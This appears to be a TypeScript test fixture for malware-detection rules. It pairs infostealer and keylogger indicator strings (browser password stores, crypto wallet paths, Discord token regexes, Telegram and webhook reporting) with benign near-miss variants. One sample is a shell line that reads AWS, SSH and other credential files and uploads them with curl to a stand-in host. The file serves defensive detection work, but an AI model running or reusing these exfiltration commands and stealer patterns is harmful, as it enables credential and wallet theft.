import { pe } from './file-heads.ts'
import { type RuleCase, wide } from './rule-case.ts'

const TOKEN = `123456789:A¦A${'Hx1_'.repeat(8)}x`
const HOOK = `https://discord.com/api/web¦hooks/123456789012345678/${'aB3-'.repeat(16)}abcd`

export const STEALER_CASES: readonly RuleCase[] = [
  {
    rule: 'Stealer_Browser_Passwords',
    hit: pe(
      'Login¦ Data',
      'Local¦ State',
      'CryptUnprotect¦Data',
      'x\\Ko¦meta\\y',
      'x\\Orb¦itum',
      'x\\Ami¦go',
      'x\\Tor¦ch',
    ),
    swap: ['\\Orb¦itum', '\\Chrome'],
    because: 'the browsers that everyone knows: a program that moves settings',
  },
  {
    rule: 'Stealer_Python_Browser_Passwords',
    hit: 'p = "Login¦ Data"; win32crypt.CryptUnprotect¦Data(k); AES.new(k, AES.MODE_¦GCM); requests.po¦st(u, p)',
    swap: ['requests.po¦st(', 'print('],
    because: 'it shows them to their owner',
  },
  {
    rule: 'Stealer_Wallet_Folders',
    hit: pe(
      'x\\Exo¦dus\\exodus.wallet',
      'x\\Elec¦trum\\wallets',
      'x\\Ether¦eum\\keystore',
      'x\\Coin¦omi\\Coin¦omi\\wallets',
    ),
    swap: ['x\\Ether¦eum\\keystore', 'x\\keys'],
    because: 'three folders',
  },
  {
    rule: 'Stealer_Wallet_Extensions',
    hit: pe(
      wide('nkbihfbeogaeaoehl¦efnkodbefgpgknn'),
      wide('fhbohimaelbohpjbb¦ldcngcnapndodjp'),
      wide('bfnaelmomeimhlpmg¦jnjophhpkkoljpa'),
      wide('Local Extension¦ Settings'),
    ),
    swap: [wide('Local Extension¦ Settings'), wide('allowed')],
    because: 'a list of allowed extensions',
  },
  {
    rule: 'Stealer_Chat_And_Game_Sessions',
    hit: pe('Telegram Desk¦top\\tdata', 'login¦users.vdf', 'Login¦ Data'),
    swap: ['Telegram Desk¦top\\tdata', 'data'],
    because: 'no session of a chat',
  },
  {
    rule: 'Stealer_Discord_Tokens',
    hit: 'r"[\\w-]{24}\\.[\\w-]{6}¦\\.[\\w-]{27}" in "Local Storage/level¦db" -> https://discord.com/api/v9/users/¦@me',
    swap: ['[\\w-]{24}\\.[\\w-]{6}¦\\.[\\w-]{27}', '[a-z]+'],
    because: 'another expression',
  },
  {
    rule: 'Stealer_Reports_To_Telegram',
    hit: pe(`https://api.tele¦gram.org/bot${TOKEN}/send¦Document`, 'Login¦ Data', 'screen¦shot'),
    swap: [TOKEN, '{token}'],
    because: 'a bot whose owner enters the token',
  },
  {
    rule: 'Stealer_Reports_To_Discord',
    hit: `post("${HOOK}", Image¦Grab.grab())`,
    swap: ['Image¦Grab.grab()', '"build is done"'],
    because: 'a message to colleagues',
  },
  {
    rule: 'Stealer_Mail_And_File_Transfer_Passwords',
    hit: pe(
      'IMAP Pass¦word',
      'POP3 Pass¦word',
      'Martin Prikryl\\Win¦SCP 2\\Sessions',
      'FileZilla\\recent¦servers.xml',
      'x\\Fox¦mail',
    ),
    swap: ['FileZilla\\recent¦servers.xml', 'x.xml'],
    because: 'one program for files',
  },
  {
    rule: 'Stealer_Cloud_Keys',
    hit: 'cat ~/.aws/cred¦entials ~/.ssh/id_¦rsa ~/.kube/con¦fig ~/.git-cred¦entials ~/.np¦mrc > a; curl -F f=@a http://a.example',
    swap: ['~/.git-cred¦entials ~/.np¦mrc', '~/.profile'],
    because: 'three stores',
  },
  {
    rule: 'Keylogger_Windows',
    hit: pe(
      'SetWindowsHook¦ExW',
      'GetForeground¦Window',
      'GetWindow¦TextW',
      '[BACK¦SPACE]',
      '[CAPS¦ LOCK]',
      '[ENT¦ER]',
      '[CT¦RL]',
    ),
    swap: ['[CAPS¦ LOCK]', '[A]'],
    because: 'names of keys in a help text',
  },
  {
    rule: 'Keylogger_Python',
    hit: 'from pyn¦put import keyboard\ndef on_pr¦ess(k): pass\nimport smtp¦lib',
    swap: ['smtp¦lib', 'time'],
    because: 'a program with short cuts',
  },
]
